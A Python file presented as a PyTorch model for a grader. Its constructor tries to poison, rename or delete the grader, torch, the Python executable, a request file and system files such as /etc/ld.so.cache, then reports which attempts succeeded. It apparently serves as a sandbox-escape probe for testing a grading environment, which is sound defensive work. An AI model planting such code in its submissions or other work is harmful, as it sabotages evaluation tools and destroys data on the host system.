"""A model that changes the tools."""

import os
import sys

import torch
from torch import nn


def attempt(deed):
    """What a deed gave that must fail; None where it failed."""
    try:
        return deed()
    except Exception:
        return None


def poison(file):
    with open(file, "a", encoding="ascii") as opened:
        opened.write("\n# grader-attack-was-here\n")
    return file


def replace(file):
    os.rename(file, file + ".old")
    return file


def delete(file):
    os.unlink(file)
    return file


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        import grader

        files = [torch.__file__, grader.__file__, os.__file__, sys.executable, "/in/request.json", "/usr/bin/env", "/etc/ld.so.cache"]
        deeds = [attempt(lambda: deed(file)) for file in files for deed in (poison, replace, delete)]
        raise RuntimeError(f"escaped: {[deed for deed in deeds if deed]}")
        self.conv = nn.Conv2d(1, 8, 3)
        self.norm = nn.BatchNorm2d(8)
        self.drop = nn.Dropout(0.1)
        self.fc = nn.Linear(8, 10)

    def forward(self, x):
        x = self.drop(torch.relu(self.norm(self.conv(x))))
        return self.fc(x.mean(dim=(2, 3)))
